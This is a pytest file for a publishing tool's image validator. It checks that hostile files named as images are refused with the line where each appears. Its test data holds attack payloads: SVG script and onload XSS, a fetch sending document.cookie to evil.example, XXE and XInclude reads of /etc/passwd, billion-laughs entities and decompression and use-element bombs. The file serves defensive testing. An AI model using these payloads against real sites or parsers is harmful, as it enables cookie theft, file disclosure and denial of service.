"""Hostile images: a file named as an image is checked by its bytes, never by its name.

An attacker (or a careless author) names a script, a web page, an SVG that runs code or
reaches outside itself, a TIFF, a truncated PNG or a decompression bomb as an image. Each
is told at `path:line` when the sources are read (`publish check` finds it), every one at
once, with exit 1 and no traceback; the images a book may hold (JPEG, PNG, GIF, WebP and a
clean SVG) are packed by what they are, and print.
"""

from __future__ import annotations

import io
import zipfile
from pathlib import Path

import pytest
from lxml import etree
from PIL import Image
from pypdf import PdfReader

from publish import images
from publish.errors import ResourceError, SourceLocation
from tests.conftest import epubcheck_problems
from tests.epub_helpers import tiny_png
from tests.pdf_helpers import build_pdf

NOT_AN_IMAGE = "is not a JPEG, PNG, GIF, WebP or SVG image"
SVG_OPEN = '<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10">'
XLINK = 'xmlns:xlink="http://www.w3.org/1999/xlink"'


def raster(fmt: str, size: tuple[int, int] = (8, 8), mode: str = "RGB") -> bytes:
    out = io.BytesIO()
    Image.new(mode, size, "white" if mode != "1" else 1).save(out, fmt)
    return out.getvalue()


def bomb() -> bytes:
    """A 1-bit PNG declaring 20000×20000 pixels (400 megapixels) in a few kilobytes."""
    out = io.BytesIO()
    Image.new("1", (20000, 20000)).save(out, "PNG", optimize=True)
    return out.getvalue()


# Each hostile file, by the name it is given, and what `check` says of it.
HOSTILE: dict[str, tuple[str, bytes | None, str]] = {
    "svg script": (
        "script.svg",
        f"{SVG_OPEN}<script>alert(document.cookie)</script></svg>".encode(),
        "is an SVG with a <script> element",
    ),
    "svg script behind a png name": (
        "innocent.png",
        f"{SVG_OPEN}<script>alert(1)</script></svg>".encode(),
        "is an SVG with a <script> element",
    ),
    "svg onload": (
        "onload.svg",
        b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><rect width="1"/></svg>',
        "is an SVG with an event handler (onload)",
    ),
    "svg event handler on a child": (
        "onclick.svg",
        f'{SVG_OPEN}<rect width="1" height="1" OnClick="x()"/></svg>'.encode(),
        "is an SVG with an event handler (onclick)",
    ),
    "svg http image": (
        "http.svg",
        f'<svg xmlns="http://www.w3.org/2000/svg" {XLINK}>'
        '<image xlink:href="http://evil.example/track.png" width="1" height="1"/></svg>'.encode(),
        'is an SVG with an external reference (href="http://evil.example/track.png")',
    ),
    "svg file reference": (
        "file.svg",
        f'{SVG_OPEN}<image href="file:///etc/passwd" width="1" height="1"/></svg>'.encode(),
        'is an SVG with an external reference (href="file:///etc/passwd")',
    ),
    "svg data reference": (
        "data.svg",
        f'{SVG_OPEN}<image href="data:image/svg+xml;base64,PHN2Zz4=" width="1"/></svg>'.encode(),
        "is an SVG with an external reference",
    ),
    "svg use of another file": (
        "use.svg",
        f'{SVG_OPEN}<use href="other.svg#shape"/></svg>'.encode(),
        'is an SVG with an external reference (href="other.svg#shape")',
    ),
    "svg css url": (
        "css.svg",
        f'{SVG_OPEN}<rect width="1" height="1" style="fill:url(http://evil.example/x)"/></svg>'.encode(),
        "is an SVG with an external reference in 'style'",
    ),
    "svg style import": (
        "import.svg",
        f'{SVG_OPEN}<style>@import "http://evil.example/a.css";</style></svg>'.encode(),
        "is an SVG with a style sheet that reaches outside the file",
    ),
    "svg css escape": (
        "escape.svg",
        f"{SVG_OPEN}<style>rect {{ fill: u\\72 l(http://evil.example/x) }}</style></svg>".encode(),
        "is an SVG with a style sheet that reaches outside the file",
    ),
    "svg font face": (
        "font.svg",
        f"{SVG_OPEN}<style><![CDATA[@font-face {{ font-family: x; src: local(x) }}]]></style>"
        "</svg>".encode(),
        "is an SVG with a style sheet that reaches outside the file",
    ),
    "svg xml base": (
        "base.svg",
        b'<svg xmlns="http://www.w3.org/2000/svg" xml:base="http://evil.example/"/>',
        'is an SVG with an external reference (base="http://evil.example/")',
    ),
    "svg utf-16 entity": (
        "utf16.svg",
        '<?xml version="1.0" encoding="UTF-16"?><!DOCTYPE svg [<!ENTITY x SYSTEM '
        '"file:///etc/passwd">]><svg xmlns="http://www.w3.org/2000/svg"><text>&x;</text></svg>'.encode(
            "utf-16"
        ),
        "is an SVG with a DOCTYPE or an entity declaration",
    ),
    "svg foreignObject": (
        "foreign.svg",
        f'{SVG_OPEN}<foreignObject><p xmlns="http://www.w3.org/1999/xhtml">x</p>'
        "</foreignObject></svg>".encode(),
        "is an SVG with a <foreignObject> element",
    ),
    "svg entity": (
        "entity.svg",
        b'<?xml version="1.0"?>\n<!DOCTYPE svg [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>\n'
        b'<svg xmlns="http://www.w3.org/2000/svg"><text>&xxe;</text></svg>',
        "is an SVG with a DOCTYPE or an entity declaration",
    ),
    "svg billion laughs": (
        "laughs.svg",
        b'<!DOCTYPE svg [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;">]>'
        b'<svg xmlns="http://www.w3.org/2000/svg"><text>&b;&b;&b;&b;</text></svg>',
        "is an SVG with a DOCTYPE or an entity declaration",
    ),
    "svg animated href": (
        "animate.svg",
        f'<svg xmlns="http://www.w3.org/2000/svg" {XLINK}><a href="#x">'
        '<set attributeName="href" to="javascript:alert(1)"/><text>go</text></a></svg>'.encode(),
        "is an SVG with an animation of 'href'",
    ),
    "svg stylesheet instruction": (
        "pi.svg",
        b'<?xml-stylesheet href="http://evil.example/a.css"?>'
        b'<svg xmlns="http://www.w3.org/2000/svg"/>',
        "is an SVG with a processing instruction <?xml-stylesheet?>",
    ),
    "svg without its namespace": (
        "bare.svg",
        b'<svg width="1" height="1"></svg>',
        "is an SVG without the SVG namespace",
    ),
    "javascript named png": ("script.png", b"alert(document.cookie);\n", NOT_AN_IMAGE),
    "javascript named js": (
        "tracker.js",
        b"fetch('https://evil.example/?'+document.cookie)",
        NOT_AN_IMAGE,
    ),
    "html named png": (
        "page.png",
        b"<!doctype html><html><body><script>alert(1)</script></body></html>",
        NOT_AN_IMAGE,
    ),
    "xhtml with an svg inside": (
        "mixed.png",
        b'<!DOCTYPE html><html xmlns="http://www.w3.org/1999/xhtml"><body>'
        b'<svg xmlns="http://www.w3.org/2000/svg"/><script>alert(1)</script></body></html>',
        "is an SVG with a DOCTYPE",  # markup with a DOCTYPE is refused before it is parsed
    ),
    "svg inside xhtml": (
        "inside.svg",
        b'<html xmlns="http://www.w3.org/1999/xhtml"><body>'
        b'<svg xmlns="http://www.w3.org/2000/svg"/><script>alert(1)</script></body></html>',
        NOT_AN_IMAGE,
    ),
    "svg with an html island": (
        "island.svg",
        f'{SVG_OPEN}<h:div xmlns:h="http://www.w3.org/1999/xhtml">x</h:div></svg>'.encode(),
        "is an SVG with an HTML element",
    ),
    "svg xinclude": (
        "xinclude.svg",
        f'{SVG_OPEN}<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="/etc/passwd"'
        ' parse="text"/></svg>'.encode(),
        "is an SVG with a <include> element",
    ),
    "svg javascript link": (
        "link.svg",
        f'<svg xmlns="http://www.w3.org/2000/svg" {XLINK}><a xlink:href="javascript:alert(1)">'
        "<text>go</text></a></svg>".encode(),
        'is an SVG with an external reference (href="javascript:alert(1)")',
    ),
    "svg use bomb": ("uses.svg", None, "is an SVG that draws more than 250000 elements"),
    "svg use loop": (
        "loop.svg",
        f'{SVG_OPEN}<g id="a"><use href="#b"/></g><g id="b"><use href="#a"/></g></svg>'.encode(),
        "is an SVG with a reference loop",
    ),
    "svg use of its own ancestor": (
        "self.svg",
        f'{SVG_OPEN}<g id="a"><rect width="1" height="1"/><use href="#a"/></g></svg>'.encode(),
        "is an SVG with a reference loop",
    ),
    "not well-formed svg": ("broken.svg", f"{SVG_OPEN}<rect>".encode(), NOT_AN_IMAGE),
    "xhtml with a script": (
        "page.xhtml",
        b'<html xmlns="http://www.w3.org/1999/xhtml"><body><script>alert(1)</script></body></html>',
        NOT_AN_IMAGE,
    ),
    "html behind a png signature": (
        "signed.png",
        b"\x89PNG\r\n\x1a\n<html><script>alert(1)</script></html>",
        NOT_AN_IMAGE,
    ),
    "tiff": ("scan.tif", None, NOT_AN_IMAGE),
    "tiff named png": ("scan.png", None, NOT_AN_IMAGE),
    "bmp": ("old.bmp", None, NOT_AN_IMAGE),
    "truncated png": ("cut.png", None, "is a PNG file that cannot be decoded"),
    "truncated jpeg": ("cut.jpg", None, "is a JPEG file that cannot be decoded"),
    "decompression bomb": (
        "bomb.png",
        None,
        "has 400 megapixels; an image may have at most 100 megapixels",
    ),
    "empty file": ("empty.png", b"", NOT_AN_IMAGE),
}


def hostile_bytes(key: str) -> bytes:
    name, data, _ = HOSTILE[key]
    if data is not None:
        return data
    if key.startswith("tiff"):
        return raster("TIFF")
    if key == "bmp":
        return raster("BMP")
    if key == "truncated png":
        whole = raster("PNG", (64, 64))
        return whole[: len(whole) // 2]
    if key == "truncated jpeg":
        whole = raster("JPEG", (256, 256))
        return whole[: len(whole) // 2]
    if key == "decompression bomb":
        return bomb()
    if key == "svg use bomb":  # ten uses of ten uses … nine deep: 10⁹ rectangles, 1 KB
        levels = ['<rect id="l0" width="1" height="1"/>']
        for level in range(1, 10):
            uses = "".join(f'<use href="#l{level - 1}"/>' for _ in range(10))
            levels.append(f'<g id="l{level}">{uses}</g>')
        return f'{SVG_OPEN}<defs>{"".join(levels)}</defs><use href="#l9"/></svg>'.encode()
    raise AssertionError(name)


def picture_source(write_source, project: Path, names: list[str]) -> Path:
    """A letter that shows each image in its own paragraph: image i is on line 5 + 2i."""
    body = "\n\n".join(f"![figure {i}]({name})" for i, name in enumerate(names))
    return write_source("pictures.md", f"---\ntitle: Pictures\n---\n\n{body}\n")


@pytest.mark.parametrize("key", HOSTILE, ids=HOSTILE.keys())
def test_a_hostile_image_is_told_with_its_line(key, write_source, project, run_cli) -> None:
    name, _, message = HOSTILE[key]
    (project / "source" / name).write_bytes(hostile_bytes(key))
    picture_source(write_source, project, ["fine.png", name])
    (project / "source" / "fine.png").write_bytes(tiny_png())

    for command in (("check", "source/pictures.md"), ("build", "source/pictures.md")):
        result = run_cli(*command)

        assert result.code == 1
        assert "Traceback" not in result.err + result.out
        assert f"source/pictures.md:7: image '{name}' {message}" in result.err
    assert not (project / "build" / "pictures.epub").exists()
    assert not (project / "build" / "pictures.pdf").exists()


def test_every_hostile_image_is_told_at_once(write_source, project, run_cli) -> None:
    keys = ["svg script", "javascript named png", "tiff", "truncated png", "decompression bomb"]
    for key in keys:
        (project / "source" / HOSTILE[key][0]).write_bytes(hostile_bytes(key))
    picture_source(write_source, project, [HOSTILE[key][0] for key in keys])

    result = run_cli("check", "source/pictures.md")

    assert result.code == 1
    lines = result.err.splitlines()
    assert [line.split(" image ")[0] for line in lines] == [
        f"source/pictures.md:{5 + 2 * i}:" for i in range(len(keys))
    ]


def test_an_image_written_into_the_text_is_refused(write_source, project, run_cli) -> None:
    write_source(
        "inline.md",
        "---\ntitle: Inline\n---\n\nText.\n\n![dot](data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAAAAAA6fptVAAAACklEQVR4nGNoAAAAggCBd81ytgAAAABJRU5ErkJggg==)\n",
    )

    for command in ("check", "build"):
        result = run_cli(command, "source/inline.md")

        assert result.code == 1
        assert "Traceback" not in result.err
        assert "source/inline.md:7: image 'data:image/png;base64,iVBORw0KGgoAAAANSU…' is " in (
            result.err
        )
        assert "a book uses image files inside its project" in result.err


def test_a_cover_that_is_a_web_page_behind_a_png_signature_is_refused(
    write_source, project, run_cli
) -> None:
    (project / "source" / "cover.png").write_bytes(b"\x89PNG\r\n\x1a\n<html></html>")
    write_source("covered.md", "---\ntitle: Covered\ncover-image: cover.png\n---\n\nText.\n")

    result = run_cli("check", "source/covered.md")

    assert result.code == 1
    assert f"source/covered.md:2: cover image 'cover.png' {NOT_AN_IMAGE}" in result.err


CLEAN_SVG = (
    '<?xml version="1.0" encoding="UTF-8"?>\n'
    f'<svg xmlns="http://www.w3.org/2000/svg" {XLINK} width="40" height="20" viewBox="0 0 40 20">'
    '<defs><linearGradient id="g"><stop offset="0" stop-color="red"/>'
    '<stop offset="1" stop-color="blue"/></linearGradient></defs>'
    "<style>rect { stroke: black; }</style>"
    '<rect id="r" width="40" height="20" fill="url(#g)"/><use xlink:href="#r" x="1"/>'
    "<!-- a comment --></svg>"
).encode()


def good_images() -> dict[str, bytes]:
    """The images a book may hold, some named for what they are not."""
    return {
        "photo.jpg": raster("JPEG", (300, 200)),
        "drawing.png": raster("PNG", (300, 200), "RGBA"),
        "anim.gif": raster("GIF", (300, 200), "P"),
        "modern.webp": raster("WEBP", (300, 200)),
        "diagram.svg": CLEAN_SVG,
        "really-a-png.jpg": raster("PNG", (300, 200)),
        "really-a-svg.png": CLEAN_SVG,
    }


def test_good_images_are_packed_by_what_they_are(write_source, project, run_cli) -> None:
    pictures = good_images()
    for name, data in pictures.items():
        (project / "source" / name).write_bytes(data)
    (project / "source" / "cover.jpg").write_bytes(raster("JPEG", (600, 900)))
    source = picture_source(write_source, project, list(pictures))
    source.write_text(
        source.read_text().replace("title: Pictures", "title: Pictures\ncover-image: cover.jpg")
    )

    assert run_cli("check", "source/pictures.md").code == 0
    result = run_cli("build", "source/pictures.md")
    assert result.code == 0, result.err

    epub = project / "build" / "pictures.epub"
    with zipfile.ZipFile(epub) as book:
        opf = book.read("EPUB/content.opf").decode()
        packed = {Path(n).name: book.read(n) for n in book.namelist() if "/images/" in n}
    assert {name: data for name, data in packed.items() if name.startswith("image-")} == {
        "image-1.jpg": pictures["photo.jpg"],
        "image-2.png": pictures["drawing.png"],
        "image-3.gif": pictures["anim.gif"],
        "image-4.webp": pictures["modern.webp"],
        "image-5.svg": CLEAN_SVG,
        "image-6.png": pictures["really-a-png.jpg"],
        "image-7.svg": CLEAN_SVG,
    }
    manifest = etree.fromstring(opf.encode()).iterfind(".//{*}manifest/{*}item")
    types = {Path(item.get("href")).name: item.get("media-type") for item in manifest}
    assert {name: types[name] for name in packed if name.startswith("image-")} == {
        "image-1.jpg": "image/jpeg",
        "image-2.png": "image/png",
        "image-3.gif": "image/gif",
        "image-4.webp": "image/webp",
        "image-5.svg": "image/svg+xml",
        "image-6.png": "image/png",
        "image-7.svg": "image/svg+xml",
    }
    assert epubcheck_problems(epub) == []
    # The five rasters are printed (the SVGs are drawn as paths), none left out.
    pdf = PdfReader(project / "build" / "pictures.pdf")
    assert len({image.name for page in pdf.pages for image in page.images}) == 5
    assert "warning: image 'photo.jpg' prints at" in result.err  # placed, so measured


def test_a_bomb_is_refused_before_its_pixels_are_decoded() -> None:
    data = bomb()
    assert len(data) < 100_000

    with pytest.raises(images.ImageProblem, match="has 400 megapixels"):
        images.image_data_type(data)


def test_an_image_between_the_limits_is_refused_by_its_declared_size() -> None:
    out = io.BytesIO()
    Image.new("1", (12000, 10000)).save(out, "PNG")  # 120 megapixels: Pillow only warns

    with pytest.raises(images.ImageProblem, match="has 120 megapixels; an image may have"):
        images.image_data_type(out.getvalue())


def test_an_image_over_the_size_limit_is_not_read(tmp_path: Path, monkeypatch) -> None:
    big = tmp_path / "big.png"
    big.write_bytes(tiny_png() + b"\0" * 2048)
    monkeypatch.setattr(images, "MAX_BYTES", 1024)

    with pytest.raises(images.ImageProblem, match="an image may be"):
        images.read_image(big)


@pytest.mark.parametrize("key", ["html behind a png signature", "javascript named png"])
def test_an_image_the_pdf_cannot_print_is_an_error_not_a_hole(key, tmp_path: Path) -> None:
    """Sources whose images were not checked when read (a file changed since, say): the PDF
    writer still refuses to print a book with an image left out."""
    (tmp_path / "pic.png").write_bytes(hostile_bytes(key))
    source = tmp_path / "hole.md"
    source.write_text("---\ntitle: Hole\n---\n\nText.\n\n![pic](pic.png)\n", encoding="utf-8")

    with pytest.raises(ResourceError, match=r"image 'pic\.png' cannot be printed") as caught:
        build_pdf(source, tmp_path / "hole.pdf", project_root=tmp_path)

    assert caught.value.location == SourceLocation(str(source), 7)
    assert not (tmp_path / "hole.pdf").exists()


def test_a_truncated_image_is_refused_even_after_weasyprint_is_loaded() -> None:
    import weasyprint.images  # noqa: F401 - it tells Pillow to accept truncated files

    for key in ("truncated png", "truncated jpeg"):
        with pytest.raises(images.ImageProblem, match="cannot be decoded"):
            images.image_data_type(hostile_bytes(key))


def test_a_long_chain_of_uses_is_followed_without_recursion() -> None:
    chain = "".join(f'<g id="c{i}"><use href="#c{i - 1}"/></g>' for i in range(1, 20000))
    data = f'{SVG_OPEN}<rect id="c0" width="1" height="1"/>{chain}</svg>'.encode()

    # Each <g> is drawn where it stands and again through every later <use>: 2 × 10⁸ shapes.
    with pytest.raises(images.ImageProblem, match="more than 250000 elements"):
        images.image_data_type(data)
